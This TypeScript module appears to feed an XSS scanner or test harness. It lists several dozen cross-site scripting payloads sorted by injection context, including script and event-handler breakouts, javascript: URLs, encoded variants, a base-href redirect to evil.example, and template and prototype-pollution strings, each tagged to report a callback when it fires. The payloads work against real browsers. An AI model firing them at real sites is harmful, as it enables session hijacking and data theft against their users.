/** Stands in a form for the call that tells the watcher that the form has run. */
const CALL = "CALL";

/** Ways to make a browser run a text that was only to be shown, by what they try to break out of. */
const FORMS = {
  elements: [
    "<script>CALL</script>",
    "<ScRiPt >CALL</sCrIpT >",
    "<script/x>CALL</script/x>",
    "<template><script>CALL</script></template>",
    "<svg><script>CALL</script></svg>",
    '<svg><script href="data:,CALL"/>',
    "<object data='data:text/html,<script>parent.CALL</script>'>",
    "<embed src=javascript:CALL>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;javascript:CALL">',
  ],
  handlers: [
    "<img src=x onerror=CALL>",
    "<img/src/onerror=CALL>",
    "<IMG SRC=x OnErRoR\t=CALL>",
    "<svg onload=CALL>",
    '<svg/onload="CALL"//',
    "<svg><animate onbegin=CALL attributeName=x>",
    "<body onload=CALL>",
    "<details open ontoggle=CALL>",
    "<input autofocus onfocus=CALL>",
    "<video><source onerror=CALL>",
    "<audio src onerror=CALL>",
    "<iframe onload=CALL>",
    "<style onload=CALL></style>",
    "<math><mtext><table><mglyph><style><img src onerror=CALL>",
  ],
  attributes: [
    '"><script>CALL</script>',
    "'><img src=x onerror=CALL>",
    '" autofocus onfocus=CALL x="',
    "' autofocus onfocus=CALL x='",
    "x onerror=CALL src=x",
    '"><iframe srcdoc="<script>parent.CALL</script>">',
  ],
  scripts: [
    "</script><script>CALL</script>",
    "</ScRiPt ><svg onload=CALL>",
    '"};CALL;//',
    "';CALL;'",
    '\\";CALL;//',
    "\u0024{CALL}",
    "{{constructor.constructor('CALL')()}}",
    "<!--<script>CALL</script>-->",
    "x\u2028CALL//",
    "\\x3cscript\\x3eCALL\\x3c/script\\x3e",
  ],
  raw: [
    "</title><script>CALL</script>",
    "</textarea><svg onload=CALL>",
    "</style><script>CALL</script>",
    "</noscript><img src=x onerror=CALL>",
    "--><script>CALL</script>",
    "]]><script>CALL</script>",
  ],
  addresses: [
    "javascript:CALL",
    "java\tscript:CALL",
    "JaVaScRiPt://x%0aCALL",
    "data:text/html,<script>parent.CALL</script>",
    "[x](javascript:CALL)",
    "x;background:url(javascript:CALL)",
  ],
  encodings: [
    "&lt;script&gt;CALL&lt;/script&gt;",
    "&#60;img src=x onerror=CALL&#62;",
    "%3Cscript%3ECALL%3C/script%3E",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e",
  ],
  streams: ["$L1", "$@1", '"]);CALL;self.__next_f.push([1,"', "__proto__"],
} as const;

/** `id` is what the watcher is told when it runs. */
export type Payload = { id: number; kind: keyof typeof FORMS; text: string };

const ALL: readonly Payload[] = Object.entries(FORMS)
  .flatMap(([kind, forms]) => forms.map((form) => ({ kind: kind as Payload["kind"], form })))
  .map(({ kind, form }, id) => ({ id, kind, text: form.replaceAll(CALL, `__xss(${id})`) }));

/** `--every 6` takes each sixth, beginning with the one that ends a script: a short run. */
const asked = process.argv.indexOf("--every");
const step = asked < 0 ? 1 : Number(process.argv[asked + 1]);

/** What ends the script that it stands in; every proof has it. */
export const SCRIPT_END = ALL.find(({ text }) => text.startsWith("</script>")) as Payload;

export const PAYLOADS: readonly Payload[] = ALL.filter(({ id }) => (id - SCRIPT_END.id) % step === 0);
